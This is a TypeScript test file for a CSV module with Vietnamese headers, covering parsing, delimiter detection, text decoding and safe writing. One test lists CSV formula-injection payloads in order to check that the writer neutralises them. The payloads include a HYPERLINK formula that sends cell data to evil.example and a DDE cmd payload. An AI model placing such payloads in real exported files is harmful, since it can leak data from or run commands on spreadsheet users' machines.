import { describe, expect, it } from 'vitest'
import { decodeText, detectDelimiter, readCsv, writeCsv } from './csv.js'

const rows = (text: string) => {
  const r = readCsv(text)
  if (!r.ok) throw new Error(r.message)
  return r.rows
}
const csvText = (bytes: Buffer) => bytes.toString('utf8')

describe('readCsv', () => {
  it('numbers rows as a spreadsheet does: empty lines counted, a quoted line break inside its row, any line ending', () => {
    const text = 'Tên,Đơn vị\r\n\r\n"Nguyễn\r\nVăn A",2\n\n  \n\rB,"Đội ""Sao Đỏ""\n\nkhu 3"\r,\n\n\nC,\n\n"x\n"\nD'
    expect(rows(text)).toEqual([
      { row: 1, cells: ['Tên', 'Đơn vị'] },
      { row: 3, cells: ['Nguyễn\r\nVăn A', '2'] },
      { row: 7, cells: ['B', 'Đội "Sao Đỏ"\n\nkhu 3'] },
      { row: 11, cells: ['C', ''] },
      { row: 13, cells: ['x\n'] },
      { row: 14, cells: ['D'] },
    ])
  })

  it('finds the separator of the header, quotes respected, comma on a tie', () => {
    expect(detectDelimiter('Tên;Đơn vị;Điểm cầu\nA,B;C;D')).toBe(';')
    expect(detectDelimiter('"Tên, họ"\tĐơn vị\tĐiểm cầu\n')).toBe('\t')
    expect(detectDelimiter('"a;b;c",d\n')).toBe(',')
    expect(detectDelimiter('Tên\n')).toBe(',')
    expect(rows('Tên\tĐơn vị\n"A\tB"\tC\n')[1]).toEqual({ row: 2, cells: ['A\tB', 'C'] })
  })

  it('keeps a stray quote inside a field, and stops after maxRows kept rows', () => {
    expect(rows('a,b"c,d\n')[0]?.cells).toEqual(['a', 'b"c', 'd'])
    const many = readCsv('h\n1\n\n2\n3\n4\n', ',', 3)
    expect(many).toEqual({ ok: true, rows: [{ row: 1, cells: ['h'] }, { row: 2, cells: ['1'] }, { row: 4, cells: ['2'] }] })
  })

  it('refuses a quote that is never closed, naming the row it opens on', () => {
    expect(readCsv('Tên,Đơn vị\nA,B\n\n"C,D\nE,F\n')).toEqual({
      ok: false,
      message: 'dấu ngoặc kép (") mở ở dòng 4 không được đóng nên phần còn lại của tệp dồn vào một ô: hãy sửa ô đó, hoặc mở tệp trong Excel và lưu lại, rồi gửi lại',
    })
  })

  it('reads a million empty lines quickly and keeps none', () => {
    const t = performance.now()
    expect(rows('\n'.repeat(1_000_000))).toEqual([])
    expect(performance.now() - t).toBeLessThan(4000)
  })
})

describe('decodeText', () => {
  it('drops the BOM, reads UTF-16 from Excel’s “Unicode text”, and gives NFC', () => {
    expect(decodeText(new TextEncoder().encode('\uFEFFTên'))).toEqual({ ok: true, text: 'Tên' })
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Tên\tĐơn vị', 'utf16le')])
    expect(decodeText(utf16)).toEqual({ ok: true, text: 'Tên\tĐơn vị' })
    expect(decodeText(new TextEncoder().encode('Nguyễn'.normalize('NFD')))).toEqual({ ok: true, text: 'Nguyễn' })
  })
})

describe('writeCsv', () => {
  it('writes a BOM, CRLF, and quotes separators of both locales, quotes, line breaks and edge spaces', () => {
    const text = csvText(writeCsv([['STT', 'Tên'], [1, 'Đội "Sao Đỏ", khu 3'], [2, 'Phường Mỹ Hải; thành phố'], [3, ' A'], [4, 'a\nb'], [5, undefined]]))
    expect(text).toBe('\uFEFFSTT,Tên\r\n1,"Đội ""Sao Đỏ"", khu 3"\r\n2,"Phường Mỹ Hải; thành phố"\r\n3," A"\r\n4,"a\nb"\r\n5,\r\n')
  })

  it('neutralises every cell a spreadsheet would run as a formula (OWASP): a quote first, the field quoted', () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '@SUM(1,2)', '-2+3', '\tTab', '\rCR', '＝1+1']
    const text = csvText(writeCsv([cells]))
    expect(text).toBe(`\uFEFF"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")","'=cmd|' /C calc'!A0","'+SUM(1,2)","'@SUM(1,2)","'-2+3","'\tTab","'\rCR","'＝1+1"\r\n`)
    const back = readCsv(text.replace(/^\uFEFF/, ''))
    expect(back.ok && back.rows[0]?.cells).toEqual(cells.map((c) => `'${c}`))
    // A negative number stays a number (quoted, Excel still reads -1); an operator inside a text is left alone.
    expect(csvText(writeCsv([[-1, 'a=b', 'Phòng Tư pháp', '- Phòng']]))).toBe(`\uFEFF"-1",a=b,Phòng Tư pháp,"'- Phòng"\r\n`)
  })

  it('reads back what it wrote, the formula quote aside', () => {
    const table = [['Tên', 'Đơn vị'], ['Đội "Sao Đỏ", khu 3', 'Phường Mỹ Hải;\nthành phố'], ['=1+1', '']]
    const back = readCsv(csvText(writeCsv(table)).replace(/^\uFEFF/, ''))
    expect(back.ok && back.rows.map((r) => r.cells)).toEqual([table[0], table[1], ["'=1+1", '']])
  })
})
